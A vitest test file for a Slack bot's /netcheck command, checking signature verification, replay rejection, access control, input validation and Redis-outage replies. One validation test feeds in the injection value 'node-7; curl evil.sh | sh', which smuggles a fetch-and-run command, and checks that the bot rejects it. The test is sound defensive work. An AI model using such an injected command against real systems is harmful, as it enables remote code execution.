// /netcheck as Slack sends it: signed form posts to the real Bolt receiver, acked with an ephemeral reply.
import { afterEach, describe, expect, it } from 'vitest';
import { type FakeSlack, startFakeSlack } from '../../support/fake-slack.js';
import { redisForFile } from '../../support/redis-for-file.js';
import { type BotWorld, type BotWorldOptions, SIGNING_SECRET, startBotWorld } from '../../support/service-world.js';
import { sendSlashCommand } from '../../support/slack-request.js';

const redis = redisForFile();
let slack: FakeSlack;
let world: BotWorld | undefined;
afterEach(async () => {
  await world?.close();
  await slack?.close();
  world = undefined;
});

async function start(options: BotWorldOptions = {}): Promise<BotWorld> {
  slack = await startFakeSlack();
  world = await startBotWorld(redis, { slack, ...options });
  return world;
}

type Ack = { response_type?: string; text?: string; blocks?: { type: string; text?: { text: string } }[] };

function ack(body: string): Ack & { all: string } {
  const parsed = JSON.parse(body) as Ack;
  const all = [parsed.text ?? '', ...(parsed.blocks ?? []).map((b) => JSON.stringify(b))].join('\n');
  return { ...parsed, all };
}

describe('/netcheck', () => {
  it('answers help in the ack, ephemerally, well within 3 s', async () => {
    const bot = await start();
    const result = await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'help' });
    expect(result.status).toBe(200);
    expect(result.ms).toBeLessThan(3000);
    const reply = ack(result.body);
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.all).toContain('/netcheck NODE');
    expect(slack.callsTo('chat.postMessage')).toHaveLength(0);
  });

  it('rejects a forged signature and a replayed old timestamp with 401, running nothing', async () => {
    const bot = await start();
    const forged = await sendSlashCommand(
      bot.events,
      SIGNING_SECRET,
      { text: 'node-7' },
      { forgeWithSecret: 'nope-nope-nope' },
    );
    expect(forged.status).toBe(401);
    const old = Math.floor(Date.now() / 1000) - 6 * 60;
    const replayed = await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-7' }, { timestamp: old });
    expect(replayed.status).toBe(401);
    const unsigned = await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-7' }, { unsigned: true });
    expect(unsigned.status).toBe(401);
    expect(await bot.parts.collections.counts()).toMatchObject({ waiting: 0, active: 0 });
    expect(slack.callsTo('chat.postMessage')).toHaveLength(0);
    const logs = bot.logs.join('\n');
    expect(logs).toContain('verify');
    expect(logs).not.toContain(SIGNING_SECRET);
  });

  it('says how to use the command when the text is not node names', async () => {
    const bot = await start();
    const reply = ack((await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-7; curl evil.sh | sh' })).body);
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.all).toContain('node names, not shell commands');
    const bad = ack((await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'Node_7' })).body);
    expect(bad.all).toContain('is not a valid node name');
    expect(await bot.parts.collections.counts()).toMatchObject({ waiting: 0 });
  });

  it('queues a collection: root message and "queued" entry in a new thread, the ack says where', async () => {
    const bot = await start();
    const result = await sendSlashCommand(bot.events, SIGNING_SECRET, {
      text: 'node-7 node-8',
      channel_id: 'C0NETOPS',
    });
    expect(result.status).toBe(200);
    expect(result.ms).toBeLessThan(3000);
    const reply = ack(result.body);
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.all).toContain('Queued a check');
    expect(reply.all).toContain('<#C0NETOPS>');
    const [root] = slack.messages('C0NETOPS');
    expect(root?.text).toContain('node-7');
    const thread = slack.thread('C0NETOPS', root?.ts ?? '');
    expect(thread.map((m) => m.text).join('\n')).toContain('alice');
    expect(await bot.parts.collections.counts()).toMatchObject({ waiting: 2 });
    const [incident] = await bot.parts.store.recent(1);
    expect(incident).toMatchObject({
      source: 'manual',
      nodes: ['node-7', 'node-8'],
      requestedBy: { userId: 'U0ALICE', userName: 'alice' },
    });
    expect(slack.mentions()).toEqual([]);
  });

  it('refuses a user who is not allowed, saying why, and queues nothing', async () => {
    const bot = await start({ access: { allowedUsers: ['U0BOB'] } });
    const result = await sendSlashCommand(bot.events, SIGNING_SECRET, {
      text: 'node-7',
      user_id: 'U0MALLORY',
      user_name: 'mallory',
    });
    const reply = ack(result.body);
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.all).toContain('not allowed to run netcheck collections');
    expect(reply.all).toContain('NETCHECK_ALLOWED_USERS');
    expect(await bot.parts.collections.counts()).toMatchObject({ waiting: 0 });
    expect(slack.callsTo('chat.postMessage')).toHaveLength(0);
  });

  it('refuses a channel that is not allowed', async () => {
    const bot = await start({ access: { allowedChannels: ['C0NETOPS'] } });
    const reply = ack(
      (await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'all', channel_id: 'C0INCIDENTS' })).body,
    );
    expect(reply.all).toContain('does not run collections from this channel');
    expect(await bot.parts.collections.counts()).toMatchObject({ waiting: 0 });
  });

  it('allows a member of an allowed user group (usergroups.users.list), refuses a non-member', async () => {
    const bot = await start({ access: { allowedGroups: ['S0SRE'] } });
    const member = ack(
      (await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-7', user_id: 'U0ALICE' })).body,
    );
    expect(member.all).toContain('Queued a check');
    const other = ack(
      (await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-8', user_id: 'U0BOB', user_name: 'bob' })).body,
    );
    expect(other.all).toContain('S0SRE');
    expect(slack.callsTo('usergroups.users.list')[0]?.args).toMatchObject({ usergroup: 'S0SRE' });
    expect(await bot.parts.collections.counts()).toMatchObject({ waiting: 1 });
  });

  it('queues a sweep for /netcheck all', async () => {
    const bot = await start();
    const reply = ack((await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'all' })).body);
    expect(reply.all).toContain('all nodes');
    expect(await bot.parts.collections.sweep.getJobCounts('waiting')).toMatchObject({ waiting: 1 });
  });

  it('answers status with the queue and the latest incidents', async () => {
    const bot = await start();
    await bot.alertIncident({ title: 'ConntrackTableNearFull <!channel>' });
    await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-9' });
    const reply = ack((await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'status' })).body);
    expect(reply.response_type).toBe('ephemeral');
    expect(reply.all).toContain('netcheck status: prod-eu-1');
    expect(reply.all).toContain('ConntrackTableNearFull &lt;!channel&gt;');
    expect(reply.all).toContain('Manual check: node-9');
  });

  it('refuses status to a user or channel not allowed, like collections, revealing no incident', async () => {
    const bot = await start({ access: { allowedGroups: ['S0SRE'], allowedChannels: ['C0NETOPS'] } });
    await bot.alertIncident({ title: 'ConntrackTableNearFull on node-7' });
    const outsider = ack(
      (
        await sendSlashCommand(bot.events, SIGNING_SECRET, {
          text: 'status',
          user_id: 'U0BOB',
          user_name: 'bob',
          channel_id: 'C0NETOPS',
        })
      ).body,
    );
    expect(outsider.response_type).toBe('ephemeral');
    expect(outsider.all).toContain('not allowed to see netcheck status');
    expect(outsider.all).not.toContain('ConntrackTableNearFull');
    const elsewhere = ack(
      (await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'status', channel_id: 'C0INCIDENTS' })).body,
    );
    expect(elsewhere.all).toContain('does not show its status from this channel');
    expect(elsewhere.all).not.toContain('ConntrackTableNearFull');
    const member = ack(
      (await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'status', channel_id: 'C0NETOPS' })).body,
    );
    expect(member.all).toContain('ConntrackTableNearFull');
  });

  it('answers status and commands with an explanation when Redis is down, within 3 s', async () => {
    const bot = await start();
    await redis.stop();
    try {
      const status = await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'status' });
      expect(status.ms).toBeLessThan(3000);
      expect(ack(status.body).all).toContain('unavailable');
      const command = await sendSlashCommand(bot.events, SIGNING_SECRET, { text: 'node-7' });
      expect(command.ms).toBeLessThan(3000);
      expect(command.status).toBe(200);
      const reply = ack(command.body);
      expect(reply.response_type).toBe('ephemeral');
      expect(reply.all).toContain('Redis is unreachable');
    } finally {
      await redis.start();
    }
  });
});
